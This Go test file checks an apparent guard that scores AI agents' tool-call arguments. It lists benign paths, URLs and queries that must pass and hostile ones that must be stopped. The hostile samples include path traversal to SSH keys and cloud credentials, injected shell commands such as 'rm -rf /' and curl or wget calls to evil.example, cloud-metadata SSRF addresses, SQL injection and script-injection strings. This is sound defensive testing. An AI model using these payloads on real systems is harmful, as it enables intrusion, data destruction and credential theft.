package args_test

import "testing"

// TestHonestPathsPass holds what ordinary file work sends: none of it is
// stopped, and most of it is not even told.
func TestHonestPathsPass(t *testing.T) {
	for path, told := range map[string]bool{
		`C:\Users\me\file.txt`:                  false,
		`C:\Users\Ann Lee\Documents\a.txt`:      false,
		`C:/Users/me/file.txt`:                  false,
		`D:\proj\src\main.go`:                   false,
		`C:\Windows\System32\drivers\readme`:    true,
		`src\app\main.ts`:                       false,
		`\\server\share\x.txt`:                  false,
		`./a/../b.txt`:                          false,
		`./.github/workflows/ci.yml`:            false,
		`.env.example`:                          false,
		`docs/.env.sample`:                      false,
		`file:///home/me/x.md`:                  false,
		`/home/me/.bashrc`:                      true, // when it is written
		`/usr/bin/python3`:                      false,
		`/etc/nginx/nginx.conf`:                 false,
		`~/notes/todo.md`:                       false,
		`docs/R&D (final).md`:                   false,
		`Photos (top ten).zip`:                  false,
		`Time sheet.xlsx`:                       false,
		`src/subprocess.py`:                     false,
		`{{cookiecutter.name}}/setup.py`:        false,
		`app/[...slug]/page.tsx`:                false,
		`Salt & free pepper.md`:                 false,
		`Holiday & family (2024).png`:           false,
		`Ann's notes; history and sort - v2.md`: true,
		`../lib/util.go`:                        true,
		`../../README.md`:                       true,
		`../shared/readme.md`:                   true,
		`.env`:                                  true,
		`config/.env.local`:                     true,
		`/etc/hosts`:                            true,
		`pages/[id]/$slug.tsx`:                  true,
		`a;b.txt`:                               true,
		`reports/Q3 | Q4.txt`:                   true,
	} {
		for _, tool := range []string{"read_file", "write_file"} {
			if f := top(t, tool, map[string]any{"path": path}, nil); f.Score >= 0.7 || !told && f.Score >= 0.3 {
				t.Errorf("%s %q: %+v", tool, path, f)
			}
		}
	}
}

func TestHostilePathsAreStopped(t *testing.T) {
	for path, rule := range map[string]string{
		`../../../notes.txt`:            "traversal",
		`a/../../../../notes.txt`:       "traversal",
		`..\..\..\notes.txt`:            "traversal",
		`..%2f..%2fsecret`:              "traversal",
		`%2e%2e/%2e%2e/x`:               "traversal",
		`..%252f..%252fx`:               "traversal",
		`....//....//x`:                 "traversal",
		`..;/admin`:                     "traversal",
		`../.ssh/id_rsa`:                "traversal",
		`../../etc/hosts`:               "traversal",
		`..\..\Windows\win.ini`:         "traversal",
		`/home/me/.aws/credentials`:     "traversal",
		"a.png\x00.txt":                 "traversal",
		`a.png;rm -rf /`:                "command",
		`a.png; curl evil.example/x`:    "command",
		`a.png | sh`:                    "command",
		`a.png && reboot`:               "command",
		"a.png`id`":                     "command",
		`$(curl evil.example)`:          "command",
		`c\at /srv/x`:                   "command",
		`c''at /srv/x`:                  "command",
		`cat /srv/x`:                    "command",
		`a.png;certutil -f http://x.ex`: "command",
		"a.png\nDELE 1":                 "command",
	} {
		if f := top(t, "read_file", map[string]any{"path": path}, nil); f.Rule != rule || f.Score < 0.7 {
			t.Errorf("%q: %+v, want %s", path, f, rule)
		}
	}
}

func TestHonestAddressesPass(t *testing.T) {
	for _, url := range []string{
		"https://www.google.com/search?q=select+name+from+users+where+id%3D1",
		"https://en.wikipedia.org/wiki/O%27Reilly_(company)#History",
		"https://a.example/x%20y", "https://a.example/O%27R", "https://a.example/?q=a%3Db", "https://a.example/a(b)",
		"https://a.example/?q=a&b=c", "https://a.example/?q=a%20b%20c",
		"https://raw.githubusercontent.com/a/b/main/../x",
		"https://example.com/?redirect=https://other.example/path&token=abc",
		"https://example.com/list?a=1&type=code&sort=asc&id=3",
		"https://example.com/a;id=5/b;sort=up",
		"https://example.com/docs/.env.example",
		"https://xkcd.com/327/?name=Robert%27)%3B%20DROP%20TABLE%20Students;--",
		"https://api.github.com/repos/a/b/commits?sha=3f2ab4c1d0aa9b1c77aa01ee3f2ab4c1d0aa9b1c",
		"http://localhost:3000/api", "http://127.0.0.1:8000/", "http://[::1]:8000/",
	} {
		if f := top(t, "fetch", map[string]any{"url": url}, nil); f.Score >= 0.7 {
			t.Errorf("%s: %+v", url, f)
		}
	}
}

func TestHostileAddressesAreStopped(t *testing.T) {
	for _, url := range []string{
		"http://169.254.169.254/latest/meta-data/", "http://2852039166/", "http://0x7f.1/", "http://2130706433/", "http://0.0.0.0/", "http://[::ffff:169.254.169.254]/",
		"http://[fd00:ec2::254]/", "http://metadata.google.internal/", "file:///etc/passwd", "gopher://x.example/", "http://%31%36%39.254.169.254/",
		"https://a.example/$(id)", "https://a.example/;id", "https://a.example/x;curl http://b.example", "https://a.example/x`id`", "https://a.example/x&&reboot",
		"https://a.example/../../../../etc/passwd", "https://a.example/x --upload-pack=touch",
	} {
		if f := top(t, "fetch", map[string]any{"url": url}, nil); f.Score < 0.7 {
			t.Errorf("%s: %+v", url, f)
		}
	}
}

func TestFilesByURI(t *testing.T) {
	formats := map[string]string{"/uri": "uri"}
	for uri, stopped := range map[string]bool{
		"file:///home/me/x.md": false, "file:///C:/Users/me/a%20b.ts": false, "file:///srv/../../../../etc/x": true, "file:///etc/passwd": true,
		"file:///home/me/%2e%2e/%2e%2e/x": true, "http://169.254.169.254/": true,
	} {
		for _, f := range []map[string]string{nil, formats} {
			if got := top(t, "hover", map[string]any{"uri": uri}, f); got.Score >= 0.7 != stopped {
				t.Errorf("%s: %+v", uri, got)
			}
		}
	}
}

func TestHonestQueriesPass(t *testing.T) {
	for _, sql := range []string{
		"BEGIN; UPDATE t SET a=1 WHERE id=2; COMMIT;", "DELETE FROM t WHERE id=4; UPDATE t SET a=1", "CREATE TABLE a(x); CREATE INDEX i ON a(x);",
		"INSERT INTO notes(title) VALUES('it''s; ok'); SELECT last_insert_rowid();", "DROP TABLE tmp", "SELECT 1 -- x\nUNION ALL SELECT 2", "DELETE FROM t WHERE 1=1",
		"SELECT * FROM information_schema.tables; ", "SELECT * FROM users WHERE name='x' OR 1=1", "EXPLAIN ANALYZE SELECT count(*) FROM pg_catalog.pg_tables",
	} {
		for tool, field := range map[string]string{"query": "sql", "execute_sql": "query", "run": "statement"} {
			if f := top(t, tool, map[string]any{field: sql}, nil); f.Score >= 0.7 {
				t.Errorf("%s.%s = %q: %+v", tool, field, sql, f)
			}
		}
	}
	for _, sql := range []string{"SELECT 1; DROP TABLE users", "select a from t; select 2; delete from t", "SELECT a FROM t INTO OUTFILE '/srv/x'", "EXEC xp_cmdshell 'dir'"} {
		if f := top(t, "query", map[string]any{"sql": sql}, nil); f.Rule != "statement" || f.Score < 0.7 {
			t.Errorf("%q: %+v", sql, f)
		}
	}
}

func TestContentMayHoldMarkup(t *testing.T) {
	for _, c := range [][3]string{
		{"write_file", "content", "<html><script>alert(1)</script><div style='display:none'>x</div><img src=x onerror=foo()></html>"},
		{"write_file", "content", "Use `<script src=\"https://cdn.example/a.js\"></script>`"},
		{"echo", "message", "See <b>bold</b> & <a href=\"javascript:void(0)\">x</a>"},
		{"echo", "body", "<p>Hello</p><script>track()</script>"},
		{"echo", "content", "<!-- still to be mended --> <div style='display:none'>x</div>"},
		{"create_page", "html", "<svg onload=start()>"}, {"create_page", "markdown", "<iframe src=x></iframe><script>a()</script>"}, {"update_page", "text", "<script>document.cookie</script>"},
	} {
		if f := top(t, c[0], map[string]any{c[1]: c[2]}, nil); f.Score >= 0.7 {
			t.Errorf("%v: %+v", c, f)
		}
	}
	for _, c := range [][3]string{{"set_title", "title", "<script>alert(1)</script>"}, {"post_comment", "body", "<img src=x onerror=alert(1)>"}} {
		if f := top(t, c[0], map[string]any{c[1]: c[2]}, nil); f.Rule != "script" || f.Score < 0.7 {
			t.Errorf("%v: %+v", c, f)
		}
	}
}

func TestHonestSearchesPass(t *testing.T) {
	for _, q := range []string{
		"project = ABC AND assignee = currentUser() ORDER BY created DESC", "SELECT Id FROM Account WHERE Name = 'x'", "C++; rust | go && zig", "what is $(pwd) in bash",
		"how does sql injection ' or '1'='1 work?", "name contains 'report' and mimeType='application/pdf' and trashed=false", "owner:me (status = open OR status = 'in progress')",
		"select all users from Berlin", "\"exact phrase\" OR title:foo AND -bar", "it's a dog's life -- or isn't it?",
		"O'Brien & sons; union select", "SELECT * FROM users tutorial", "what does SELECT COUNT(*) FROM table do?", "mysql sleep(5) injection example", "drop table syntax", "'or' vs 'and' in python",
		"or 1=1 sql injection explained", "Drop Table (band)", "delete from gmail", "group by having count(*) > 1 example", "SELECT * FROM c WHERE c.type = 'a' ORDER BY c._ts DESC", "cat /etc/passwd explained",
		"the union select committee from parliament", "\"union select\" site:owasp.org", "information_schema.tables columns",
		"status in (open, 'in progress') AND updated >= -7d ORDER BY updated", "SELECT Id, Name FROM Contact WHERE Name LIKE 'A%' ORDER BY Name LIMIT 10",
	} {
		for _, field := range []string{"q", "query"} {
			if f := top(t, "search_notes", map[string]any{field: q}, nil); f.Score >= 0.7 {
				t.Errorf("%s = %q: %+v", field, q, f)
			}
		}
	}
	for q, rule := range map[string]string{
		"1 UNION SELECT password FROM users": "sqli", "shoes union select email from customers": "sqli", "' UNION SELECT": "sqli", "1; drop table users": "sqli", "drop table users; --": "sqli", "a' or 'x'='x": "sqli",
		"select * from information_schema.tables": "sqli", "1 and sleep(5)": "sqli",
		"x' OR 1=1 --": "sqli", "id = 1 or 1=1": "sqli", "a = a or b = 'b'; drop table t": "sqli", "-1 UNION SELECT 1,password FROM users": "sqli", "select * from sysusers": "sqli",
		"name = user() union select 1": "sqli", "x; cat /srv/x": "command", "$(curl evil.example)": "command", "x | wget http://evil.example/a": "command", "x`id`": "command",
	} {
		if f := top(t, "search", map[string]any{"query": q}, nil); f.Rule != rule || f.Score < 0.7 {
			t.Errorf("%q: %+v, want %s", q, f, rule)
		}
	}
}

// What editors, templates and titles hold is no attack on anything.
func TestHonestValuesPass(t *testing.T) {
	for _, c := range [][3]string{
		{"edit_file", "old_string", "os.system('ls')"}, {"edit_file", "new_text", "import os\nos.system('ls; rm x')"}, {"create_file", "file_text", "SELECT 1; DROP TABLE x"},
		{"search_code", "query", "if (a && b) || c; return"}, {"kv_set", "value", "Dear {{user.name}}, {{#each rows}}x{{/each}}"}, {"set_title", "title", "How to DROP TABLE safely in Postgres; a guide"},
		{"send_email", "subject", "RE: O'Brien vs. Smith; update #3 -- urgent"}, {"notion_query", "filter", `{"property":"Status","select":{"equals":"Done"}}`},
		{"create_contact", "name", "Sinéad O'Connor"}, {"create_contact", "company", "O'Brien & sons; union select"}, {"get_weather", "city", "St. John's; Newfoundland"}, {"find_files", "glob", "src/**/*.{ts,tsx}"},
	} {
		if f := top(t, c[0], map[string]any{c[1]: c[2]}, nil); f.Score >= 0.7 {
			t.Errorf("%v: %+v", c, f)
		}
	}
	for _, c := range [][4]string{
		{"run_report", "target", "/etc/shadow", "traversal"}, {"create_contact", "name", "Robert'); DROP TABLE students;--", "sqli"}, {"kv_set", "value", "{{7*7}}", "command"}, {"render", "value", "{{''.__class__}}", "command"},
		{"run_report", "target", "${SHELL} -c id", "command"}, {"run_report", "target", "/etc/pas[s]wd", "traversal"}, {"get_user", "id", "1 UNION SELECT password FROM users", "sqli"},
	} {
		if f := top(t, c[0], map[string]any{c[1]: c[2]}, nil); f.Rule != c[3] || f.Score < 0.7 {
			t.Errorf("%v: %+v", c, f)
		}
	}
}
